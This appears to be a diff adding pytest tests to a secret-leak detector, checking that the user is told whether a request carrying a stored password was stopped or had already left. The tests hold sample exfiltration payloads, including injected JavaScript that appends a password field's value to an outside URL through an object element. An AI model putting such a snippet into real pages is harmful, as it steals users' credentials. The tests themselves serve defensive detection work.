@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 from pathlib import Path
 from typing import Any
 
@@ -143,3 +144,26 @@ def test_other_requests_tell_none(request_: HeldRequest) -> None:
     secrets, vault = guard()
     vault.value("login")
     assert not secrets.tells(request_)
+
+
+@pytest.mark.parametrize(("has_left", "said"), [(False, "was stopped"), (True, "left before it could be stopped")])
+def test_the_user_is_told_whether_a_request_that_told_a_secret_could_be_stopped(has_left: bool, said: str) -> None:
+    secrets, vault = guard()
+    vault.value("login")
+    told: list[str] = []
+    secrets.events.subscribe(lambda event: told.append(event.text) if isinstance(event, NoticeEvent) else None)
+    secrets.tells(HeldRequest("GET", f"{AWAY}/?p=cor2rect%2DHorse!", has_left=has_left))
+    assert said in told[0]
+
+
+async def test_what_an_object_loads_in_firefox_is_said_to_have_left(
+    firefox: Browser, open_session: OpenSession, tmp_path: Path, serve: PageServer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    load = "document.body.append(Object.assign(document.createElement('object'), {data: to + '?' + pw.value})); end()"
+    monkeypatch.setitem(WAYS, "object", load)
+    session = await login(firefox, open_session, tmp_path / "run", serve, "object")
+    notice: asyncio.Future[str] = asyncio.get_running_loop().create_future()
+    session.events.subscribe(lambda event: notice.set_result(event.text) if isinstance(event, NoticeEvent) else None)
+    await fill(session)
+    async with asyncio.timeout(10):
+        assert "left before it could be stopped" in await notice
